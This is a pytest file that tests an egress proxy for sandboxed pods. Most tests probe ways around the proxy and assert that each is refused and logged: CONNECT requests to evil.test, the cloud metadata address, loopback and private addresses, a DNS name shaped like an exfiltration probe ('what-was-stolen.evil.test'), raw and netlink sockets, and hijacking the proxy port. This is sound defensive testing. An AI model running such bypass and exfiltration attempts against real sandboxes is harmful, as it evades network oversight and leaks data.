"""The egress of a pod, tried from a step: what is allowed works; attempts around the proxy fail and are recorded."""

import asyncio
import errno
import os
import signal
import socket
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import pytest_asyncio

from danube_pkg.core.egress.client_hello import ACCESS_DENIED
from danube_pkg.core.egress.ledger import Way
from danube_pkg.core.egress.policy import (
    PROXY_PORT,
    EgressReason,
    Verdict,
    proxy_environment,
)
from danube_pkg.core.errors import Defect
from danube_pkg.core.runtimes.pods import HOST_IMAGE, Container, Network
from danube_pkg.core.runtimes.supervisor import StepSpec, encode_request
from tests.adapters.egress.certificates import Authority, make_authority
from tests.adapters.egress.proxies import NAMES, SECONDS
from tests.adapters.runtimes.sandbox.egress_pods import EgressPods, open_egress_pods
from tests.adapters.runtimes.sandbox.pods import job_of, new_pod_id, new_runtime, spec_of
from tests.core.egress.test_client_hello import in_records, real_hello
from tests.support.waiting import wait_until_async

CURL = "curl -sS --max-time 20 --cacert /workspace/authority.pem"

CONNECT = f"""
import os, socket, sys
def connect(target, data=b"", step=None):
    proxy = socket.create_connection(("127.0.0.1" if step is None else f"127.1.0.{{step}}", {PROXY_PORT}), timeout=20)
    proxy.sendall(f"CONNECT {{target}} HTTP/1.1\\r\\nHost: {{target}}\\r\\n\\r\\n".encode())
    answer = proxy.recv(65536)
    for at in range(len(data)):
        proxy.sendall(data[at : at + 1])
    return answer, proxy
"""
"""The beginning of programs that connect to the proxy themselves."""


@pytest.fixture(scope="module")
def authority(tmp_path_factory: pytest.TempPathFactory) -> Authority:
    return make_authority(tmp_path_factory.mktemp("authority"), *NAMES, "127.0.0.1")


@pytest_asyncio.fixture
async def out(tmp_path: Path, authority: Authority) -> AsyncIterator[EgressPods]:
    async with open_egress_pods(tmp_path, authority) as made:
        yield made


def trusting(authority: Authority) -> str:
    """A command that writes the authority's certificate into the workspace."""
    return f"cat > /workspace/authority.pem <<'END'\n{authority.authority.read_text()}END\n"


# --- what is allowed


async def test_an_allowed_host_is_reached_without_configuration(out: EgressPods, authority: Authority) -> None:
    worker = await out.worker()
    await out.shell(worker, trusting(authority))
    assert await out.shell(worker, f"{CURL} https://files.test:{out.port}/") == (0, "hello")
    (contact,) = await out.wait_for_ledger(worker, 1)
    assert (contact.verdict, contact.reason, contact.host) == (Verdict.ALLOWED, EgressReason.LISTED, "files.test")


async def test_a_step_is_identified_by_the_address_of_its_proxy(out: EgressPods, authority: Authority) -> None:
    worker = await out.worker()
    await out.shell(worker, trusting(authority))
    given = " ".join(f"{name}='{value}'" for name, value in proxy_environment(300).items())
    assert await out.shell(worker, f"{given} {CURL} https://files.test:{out.port}/") == (0, "hello")
    assert [contact.step for contact in out.ledger(worker)] == [300]


async def test_every_container_of_a_pod_has_the_proxy_and_other_networks_have_none(out: EgressPods) -> None:
    print_proxy = "import os; print(os.environ.get('HTTPS_PROXY'), os.environ.get('no_proxy'))"
    for container in await out.pods.pod(network=Network.ALLOWLIST):
        expected = f"http://127.0.0.1:{PROXY_PORT} localhost,127.0.0.1,::1\n"
        assert await out.python(container, print_proxy) == expected
    for network in (Network.NONE, Network.HOST):
        _, worker = await out.pods.pod(network=network)
        assert await out.python(worker, print_proxy) == "None None\n"
    refused = f"import socket; print(socket.socket().connect_ex(('127.0.0.1', {PROXY_PORT})))"
    _, closed = await out.pods.pod()
    assert await out.python(closed, refused) == "111\n"


async def test_each_pod_has_its_own_allowlist(out: EgressPods) -> None:
    first, second = await out.worker(), await out.worker(f"other.test:{out.port}")
    program = CONNECT + f"print(connect('other.test:{out.port}')[0].split()[1].decode())"
    assert (await out.python(first, program), await out.python(second, program)) == ("403\n", "200\n")
    assert [contact.verdict for contact in out.ledger(first)] == [Verdict.REFUSED]
    assert [contact.verdict for contact in out.ledger(second)] == [Verdict.ALLOWED]


async def test_learning_allows_and_records(out: EgressPods) -> None:
    worker = await out.worker(network=Network.LEARN)
    program = CONNECT + f"print(connect('evil.test:{out.port}')[0].split()[1].decode())"
    assert await out.python(worker, program) == "200\n"
    assert out.ledger(worker)[0].reason is EgressReason.LEARNED


# --- attempts around it


REFUSED = {
    "evil.test:443": EgressReason.NOT_LISTED,
    "8.8.8.8:443": EgressReason.ADDRESS_NOT_LISTED,
    "10.0.0.1:443": EgressReason.PRIVATE_ADDRESS,
    "127.0.0.1:22": EgressReason.LOOPBACK_ADDRESS,
    "[::1]:443": EgressReason.LOOPBACK_ADDRESS,
    "[2606:4700::1111]:443": EgressReason.ADDRESS_NOT_LISTED,
    "169.254.169.254:80": EgressReason.METADATA_ADDRESS,
    "private.test:443": EgressReason.LOOPBACK_ADDRESS,
}
"""What is refused to a pod whose allowlist has `private.test`, a name that resolves to a private address."""


async def test_a_destination_that_is_not_allowed_is_refused(out: EgressPods) -> None:
    worker = await out.worker("private.test")
    program = CONNECT + f"for target in {list(REFUSED)!r}: print(connect(target, step=9)[0].decode().splitlines()[0])"
    lines = (await out.python(worker, program)).splitlines()
    assert len(lines) == len(REFUSED)
    assert all(line.startswith("HTTP/1.1 403 ") and "egress_allowlist: [" in line for line in lines)
    contacts = out.ledger(worker)
    assert [contact.reason for contact in contacts] == list(REFUSED.values())
    assert {(contact.verdict, contact.step) for contact in contacts} == {(Verdict.REFUSED, 9)}


async def test_a_handshake_for_another_name_is_refused_however_it_is_divided(out: EgressPods) -> None:
    """In packets of one byte, and in TLS records of nine."""
    worker = await out.worker()
    for data in (real_hello("evil.test"), in_records(real_hello("evil.test"), 9)):
        program = CONNECT + (
            f"answer, proxy = connect('files.test:{out.port}', bytes.fromhex('{data.hex()}'))\n"
            "print(answer.split()[1].decode(), proxy.recv(99).hex())"
        )
        assert await out.python(worker, program) == f"200 {ACCESS_DENIED.hex()}\n"
    for contact in await out.wait_for_ledger(worker, 2):
        assert (contact.reason, contact.server_name) == (EgressReason.SERVER_NAME_DIFFERS, "evil.test")


async def test_the_servers_own_ports_are_closed(out: EgressPods) -> None:
    """By the loopback, by this machine's other addresses, and by a listed name that resolves to one."""
    with socket.create_server(("127.0.0.1", 0)) as own:
        port = own.getsockname()[1]
        worker = await out.worker(f"private.test:{port}")
        names = [f"127.0.0.1:{port}", f"private.test:{port}", *(f"{one}:{port}" for one in own_addresses())]
        program = CONNECT + f"print([connect(name)[0].split()[1].decode() for name in {names!r}])"
        assert await out.python(worker, program) == f"{['403'] * len(names)}\n"
    assert {contact.verdict for contact in out.ledger(worker)} == {Verdict.REFUSED}


def own_addresses() -> list[str]:
    """The source address of packets to other machines, where this machine has one beside the loopback."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))
        except OSError:
            return []
        return [probe.getsockname()[0]]


async def test_nothing_is_reached_without_the_proxy_and_each_attempt_is_counted(out: EgressPods) -> None:
    worker = await out.worker()
    program = (
        "import errno, socket\n"
        "def attempt(family, kind, place):\n"
        "    with socket.socket(family, kind) as one:\n"
        "        try: one.sendto(b'x', place) if kind == socket.SOCK_DGRAM else one.connect(place)\n"
        "        except OSError as error: return errno.errorcode[error.errno]\n"
        "four, six, tcp, udp = socket.AF_INET, socket.AF_INET6, socket.SOCK_STREAM, socket.SOCK_DGRAM\n"
        "print(attempt(four, tcp, ('192.0.2.1', 443)), attempt(four, udp, ('192.0.2.1', 53)),\n"
        "      attempt(six, tcp, ('2606:4700::1111', 443)), attempt(six, udp, ('2606:4700::1111', 443)),\n"
        "      attempt(four, udp, ('224.0.0.251', 5353)))\n"
    )
    assert await out.python(worker, program) == " ".join(["ENETUNREACH"] * 5) + "\n"
    await out.setup.proxies.settle(job_of(worker.pod_id), 4)
    # A proxy that is starting counts once it has started; only this test waits for that.
    await wait_until_async(lambda: out.ledger(worker), 30, "the kernel's count to be in the ledger")
    (contact,) = out.ledger(worker)
    assert (contact.way, contact.reason, contact.step) == (Way.DIRECT, EgressReason.NO_ROUTE, 4)
    assert contact.attempts >= 5


async def test_a_socket_without_addresses_cannot_be_created(out: EgressPods) -> None:
    worker = await out.worker()
    program = (
        "import errno, socket\n"
        "for family, kind, protocol in ((2, 3, 1), (2, 2, 1), (10, 3, 58), (17, 3, 768), (40, 1, 0)):\n"
        "    try: one = socket.socket(family, kind, protocol)\n"
        "    except OSError as error: print(errno.errorcode[error.errno]); continue\n"
        "    print('made', family)\n"
    )
    printed = (await out.python(worker, program)).split()
    assert set(printed) <= {"EPERM", "EACCES", "EAFNOSUPPORT", "EPROTONOSUPPORT"}
    new_link = bytes.fromhex("20000000100005000000000000000000000000000100000000000000ffffffff")
    ask = (
        "import socket, struct; one = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)\n"
        f"one.send({new_link!r}); print(struct.unpack_from('i', one.recv(999), 16)[0])"
    )
    assert await out.python(worker, ask) == f"{-errno.EPERM}\n"  # a step may not change the network's settings


async def test_attempts_to_create_such_a_socket_are_in_the_ledger(out: EgressPods) -> None:
    worker = await out.worker()
    program = (
        "import errno, socket\n"
        "for family, kind, protocol in ((2, 3, 1), (10, 3, 58), (17, 3, 768), (2, 10, 768)):\n"
        "    try: socket.socket(family, kind, protocol)\n"
        "    except OSError as error: print(errno.errorcode[error.errno])\n"
    )
    step = StepSpec("s9", 1, bytes(32), f"python3 - <<'END'\n{program}END\n", environment=proxy_environment(9))
    code, frames = await out.pods.run(worker, "danube-step", "run", given=encode_request(step, 0))
    assert (code, frames.count(b"EPERM\n")) == (0, 4)
    await wait_until_async(lambda: attempts_of(out, worker) == 4, SECONDS, "each attempt to be in the ledger")
    expected = (Way.RAW_SOCKET, Verdict.REFUSED, EgressReason.RAW_SOCKET, 9)
    for contact in out.ledger(worker):
        assert (contact.way, contact.verdict, contact.reason, contact.step) == expected


def attempts_of(out: EgressPods, worker: Container) -> int:
    """The number of attempts in the ledger, entries and counts together."""
    return sum(contact.attempts for contact in out.ledger(worker))


async def test_a_name_that_is_resolved_by_dns_is_refused_and_recorded(out: EgressPods) -> None:
    worker = await out.worker()
    program = "import socket\ntry: socket.getaddrinfo('what-was-stolen.evil.test', 443)\nexcept socket.gaierror: print('no')\n"
    assert await out.python(worker, program) == "no\n"
    (contact,) = out.ledger(worker)
    assert (contact.way, contact.host, contact.reason) == (Way.DNS, "what-was-stolen.evil.test", EgressReason.DNS)


async def test_a_step_cannot_replace_the_proxy(out: EgressPods) -> None:
    worker = await out.worker()
    program = (
        "import errno, socket\n"
        f"for host in ('127.0.0.1', '127.1.0.3', '0.0.0.0'):\n"
        "    one = socket.socket()\n"
        "    for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT): one.setsockopt(socket.SOL_SOCKET, option, 1)\n"
        f"    try: one.bind((host, {PROXY_PORT})); one.listen()\n"
        "    except OSError as error: print(errno.errorcode[error.errno])\n"
    )
    assert await out.python(worker, program) == "EADDRINUSE\n" * 3
    _, printed = await out.shell(worker, "cat /proc/[0-9]*/cmdline; ls -A /.danube")
    assert "egress" not in printed
    assert printed.endswith("danube-step\n")


# --- restarts and kills


async def test_the_egress_of_a_pod_needs_no_server(out: EgressPods) -> None:
    """The runtime is closed; an open connection continues, and a new one works."""
    worker = await out.worker()
    await out.pods.runtime.close()
    await out.setup.proxies.close()
    program = CONNECT + f"print(connect('files.test:{out.port}')[0].split()[1].decode())"
    assert await out.python(worker, program) == "200\n"


async def test_a_killed_proxy_is_replaced_for_running_pods(out: EgressPods) -> None:
    async with out.pods.runtime.watch():
        worker = await out.worker()
        program = CONNECT + f"print(connect('files.test:{out.port}')[0].split()[1].decode())"
        assert await out.python(worker, program) == "200\n"
        (process,) = out.setup.processes()
        os.kill(process, signal.SIGKILL)
        await wait_until_async(lambda: out.setup.processes() not in ([process], []), SECONDS, "another proxy")
        async with asyncio.timeout(SECONDS):
            while job_of(worker.pod_id) not in await out.setup.proxies.served():
                continue
        assert await out.python(worker, program) == "200\n"
        assert [contact.verdict for contact in out.ledger(worker)] == [Verdict.ALLOWED] * 2


async def test_a_restarted_server_keeps_served_pods_and_serves_the_others(out: EgressPods) -> None:
    worker = await out.worker()
    program = CONNECT + f"print(connect('files.test:{out.port}')[0].split()[1].decode())"
    (process,) = out.setup.processes()
    await out.pods.runtime.close()
    restarted = new_runtime(out.pods.data, out.setup.proxies)
    try:
        async with restarted.watch():
            assert await out.python(worker, program) == "200\n"
            assert out.setup.processes() == [process]
        os.kill(process, signal.SIGKILL)
        async with restarted.watch():
            await wait_until_async(lambda: out.setup.processes() not in ([process], []), SECONDS, "another proxy")
            async with asyncio.timeout(SECONDS):
                while job_of(worker.pod_id) not in await out.setup.proxies.served():
                    continue
            assert await out.python(worker, program) == "200\n"
    finally:
        await restarted.close()


async def test_isolated_legs_have_the_egress_of_their_pod(out: EgressPods) -> None:
    """By the same allowlist and into the same ledger, also after the proxy was replaced."""
    worker = await out.worker()
    leg = await out.pods.runtime.ensure_container(worker.pod_id, HOST_IMAGE, (), 1)
    program = (
        CONNECT
        + f"for host in ('files.test:{out.port}', 'other.test:443'):\n print(connect(host)[0].split()[1].decode())"
    )
    async with out.pods.runtime.watch():
        assert await out.python(leg, program) == "200\n403\n"
        (process,) = out.setup.processes()
        os.kill(process, signal.SIGKILL)
        await wait_until_async(lambda: out.setup.processes() not in ([process], []), SECONDS, "another proxy")
        async with asyncio.timeout(SECONDS):
            while job_of(worker.pod_id) not in await out.setup.proxies.served():
                continue
            connect = f"import socket; socket.create_connection(('127.0.0.1', {PROXY_PORT}))"
            while (await out.pods.python(leg, connect))[0]:
                continue  # the network of a leg is opened after that of its pod
        assert await out.python(leg, program) == "200\n403\n"
        assert await out.python(worker, program) == "200\n403\n"
    verdicts = [contact.verdict for contact in out.ledger(worker)]
    assert verdicts == [Verdict.ALLOWED, Verdict.REFUSED] * 3


async def test_a_creation_that_was_interrupted_before_its_egress_is_completed(out: EgressPods) -> None:
    spec = spec_of(
        new_pod_id(), network=Network.ALLOWLIST, allowlist=[f"files.test:{out.port}", f"127.0.0.1:{out.port}"]
    )
    interrupted = new_runtime(out.pods.data)  # its proxies serve no pod, so it stops where egress would be opened
    with pytest.raises(Defect, match="serves no pod"):
        await interrupted.create_pod(spec)
    await interrupted.close()
    await out.pods.runtime.create_pod(spec)
    worker = await out.pods.runtime.ensure_container(spec.pod_id, HOST_IMAGE)
    program = CONNECT + f"print(connect('files.test:{out.port}')[0].split()[1].decode())"
    assert await out.python(worker, program) == "200\n"


async def test_a_deleted_pod_leaves_no_proxy_behind(out: EgressPods) -> None:
    worker = await out.worker()
    await out.pods.runtime.delete_pod(worker.pod_id)
    await out.setup.proxies.close()
    await out.setup.wait_no_process()
